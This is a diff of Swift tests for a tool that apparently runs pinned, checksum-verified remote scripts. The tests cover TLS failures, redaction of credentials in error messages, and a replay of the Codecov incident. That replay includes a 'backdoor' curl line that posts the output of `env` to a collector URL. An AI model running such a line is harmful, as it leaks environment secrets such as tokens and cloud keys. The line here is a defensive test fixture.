@@ -192,7 +192,7 @@ struct RunCommandTests {
             work.pin("tls", url: server.url("files/payload.sh", port: port), content: script)
             let result = work.scriptpin(["run", "tls"])
             #expect(result.status == 124)
-            #expect(result.stderr.contains("TLS verification failed for https://127.0.0.1:\(port)/files/payload.sh"))
+            #expect(result.stderr.contains("TLS verification failed for \(server.url("files/payload.sh", port: port))"))
         }
         #expect(!work.markerExists)
     }
@@ -230,17 +230,17 @@ struct RunCommandTests {
 
     @Test("Credentials and query strings never appear in messages")
     func redaction() {
-        let result = work.scriptpin(["run", "https://user:hunter2@127.0.0.1:\(server.trustedPort)/files/none?token=abc123", "--sha256", String(repeating: "ab", count: 32)])
+        let result = work.scriptpin(["run", "https://user:hunter2@127.0.0.1:\(server.trustedPort)\(server.path("files/none"))?token=abc123", "--sha256", String(repeating: "ab", count: 32)])
         #expect(result.status == 124)
         #expect(!result.stderr.contains("hunter2"))
         #expect(!result.stderr.contains("abc123"))
-        #expect(result.stderr.contains("https://REDACTED@127.0.0.1:\(server.trustedPort)/files/none?REDACTED"))
+        #expect(result.stderr.contains("https://REDACTED@127.0.0.1:\(server.trustedPort)\(server.path("files/none"))?REDACTED"))
     }
 
     @Test("The Codecov incident, replayed: a tampered uploader is refused and posts nothing; a compromised pin leaks no secret")
     func codecovReplay() throws {
         let uploader = "#!/bin/bash\necho 'uploading coverage'\n"
-        let backdoor = "curl -sm 5 -d \"$(env)\" http://127.0.0.1:\(server.collectorPort)/upload >/dev/null\n"
+        let backdoor = "curl -sm 5 -d \"$(env)\" \(server.collectorURL("upload")) >/dev/null\n"
         server.serve("codecov", uploader)
         work.pin("codecov", url: server.url("files/codecov"), content: uploader, extra: "env CODECOV_TOKEN\n")
         let secrets = ["GITHUB_TOKEN": "ghp_supersecretvalue", "AWS_SECRET_ACCESS_KEY": "aws-secret-value",
